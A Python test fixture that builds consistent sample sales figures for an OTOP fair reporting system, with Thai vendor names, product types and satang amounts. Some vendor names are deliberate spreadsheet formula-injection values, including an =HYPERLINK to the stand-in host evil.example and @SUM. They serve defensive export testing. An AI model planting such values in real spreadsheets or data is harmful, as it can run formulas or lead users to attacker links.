"""A hand-made ``Figures`` for the writer tests: Thai names, the five product types, money with satang,
enough vendors for a multi-page PDF, cash differences, missing exports, and vendor names that try formula
injection in a spreadsheet."""
from __future__ import annotations

from datetime import date, datetime, timedelta, timezone

from otop_pos.reports.model import (
    CashRow, Figures, KeyFigures, MissingRow, Period, ProductRow, Row, VendorRow,
)

TYPES = (("อาหาร", "Food"), ("เครื่องดื่ม", "Drinks"), ("ผ้าและเครื่องแต่งกาย", "Cloth and apparel"),
         ("ของใช้ ของตกแต่งและของที่ระลึก", "Household, decor and souvenirs"),
         ("สมุนไพรที่ไม่ใช่อาหาร", "Non-food herbal"))
INJECTIONS = ('=HYPERLINK("http://evil.example/?x","คลิก")', "+66812345678", "-1", "@SUM(A1:A9)",
              "\tแท็บ", "\rขึ้นบรรทัด", "\nบรรทัดใหม่", "\0นัล")
FIRST = date(2020, 10, 26)


def _share(n: int, total: int) -> int:
    return round(10000 * n / total) if total > 0 else 0


def _rows(items: list[tuple[str, str, str, int, int, int]]) -> tuple[Row, ...]:
    total = sum(i[3] for i in items)
    return tuple(Row(k, th, en, net, n, it, _share(net, total)) for k, th, en, net, n, it in items)


def sample_figures(vendors: int = 60) -> Figures:
    """A consistent set of figures: every breakdown sums to the net income."""
    rows = []
    for i in range(vendors):
        name = INJECTIONS[i] if i < len(INJECTIONS) else f"กลุ่มทอผ้าบ้านหนองแวง ครั้งที่ {i + 1}"
        ptype = TYPES[i % 5][0]
        net = 1_234_567 * (vendors - i) + 75  # satang, all different
        rows.append(VendorRow(f"KK20-{i + 1:04d}", name, ptype, "บ้านไผ่" if i % 3 else "เมืองขอนแก่น",
                              "ขอนแก่น" if i % 2 else "มหาสารคาม", (i % 5) + 1 if i % 7 else None, f"B{i + 1:03d}",
                              ("community", "single_owner", "sme")[i % 3], net, 10 + i, 20 + i, 500 * (i % 4),
                              i % 2, 7, datetime(2020, 11, 1, 14, 30, tzinfo=timezone.utc)))
    net = sum(v.net_satang for v in rows)
    sales = sum(v.sales_count for v in rows)
    items = sum(v.items for v in rows)
    key = KeyFigures(net, net + 150_000, sales + 3, items, round(net / sales), 4, 100_000, 3, 50_000, vendors + 4,
                     vendors)

    def split(keys: list[tuple[str, str, str]]) -> tuple[Row, ...]:
        n = len(keys)
        nets = [net // n] * n
        nets[0] += net - sum(nets)
        counts = [sales // n] * n
        counts[0] += sales - sum(counts)
        its = [items // n] * n
        its[0] += items - sum(its)
        return _rows([(k, th, en, nets[j], counts[j], its[j]) for j, (k, th, en) in enumerate(keys)])

    days = [FIRST + timedelta(days=d) for d in range(7)]
    by_vendor = tuple(sorted(rows, key=lambda v: -v.net_satang))
    return Figures(
        fair_ids=(1,), fair_names=("OTOP CITY IN KHONKAEN ครั้งที่ 20",), venue="สวนรัชดานุสรณ์",
        host_province="ขอนแก่น", period=Period(days[0], days[-1]),
        printed_at=datetime(2020, 11, 1, 14, 0, tzinfo=timezone.utc), key=key, by_vendor=by_vendor,
        by_product_type=split([(th, th, en) for th, en in TYPES]),
        by_province=split([("40", "ขอนแก่น", "Khon Kaen"), ("44", "มหาสารคาม", "Maha Sarakham")]),
        host_vs_other=split([("host", "ในจังหวัด", "Host province"), ("other", "ต่างจังหวัด", "Other provinces")]),
        by_district=split([("4012", "บ้านไผ่", "Ban Phai"), ("4001", "เมืองขอนแก่น", "Mueang Khon Kaen")]),
        by_day=split([(d.isoformat(), f"{d.day} ต.ค. 2563", f"{d.day} Oct 2020") for d in days]),
        by_hour=split([(f"{h:02d}", f"{h:02d}.00–{h:02d}.59 น.", f"{h:02d}:00–{h:02d}:59") for h in range(10, 21)]),
        by_method=_rows([("cash", "เงินสด", "Cash", net - net // 2, sales // 2, 0),
                         ("promptpay", "พร้อมเพย์", "PromptPay", net // 2, sales - sales // 2, 0),
                         ("transfer", "โอนเงิน", "Transfer", 0, 0, 0), ("other", "อื่นๆ", "Other", 0, 0, 0)]),
        by_star=split([(str(k), f"{k} ดาว", f"{k} stars") for k in range(5, 0, -1)] + [("none", "ไม่มีระดับดาว",
                                                                                         "No star")]),
        by_producer_type=split([("community", "ผู้ผลิตชุมชน", "Community producer"),
                                ("single_owner", "ผู้ผลิตรายเดียว", "Single owner"), ("sme", "ผู้ประกอบการ SME", "SME")]),
        top_products=tuple(ProductRow(f"KK20-{i + 1:04d}-01", f"น้ำกระเจี๊ยบ ครั้งที่ {i}", v.code, v.name,
                                      v.product_type, 40 - i, v.net_satang // 3) for i, v in enumerate(by_vendor[:10])),
        top_vendors=by_vendor[:10],
        missing=(MissingRow(days[2], "KK20-0099", "+66 ร้านไม่ส่ง", "B099", "no_export"),
                 MissingRow(days[3], "KK20-0098", "กลุ่มแม่บ้าน", "B098", "no_sales")),
        cash=(CashRow("KK20-0001", "B001", 1, days[0], 1_000_000, 1_000_000, 0),
              CashRow("KK20-0002", "B002", 2, days[0], 2_050_025, 2_048_025, -2_000),
              CashRow("KK20-0003", "B003", 1, days[1], 500_000, None, None)),
    )
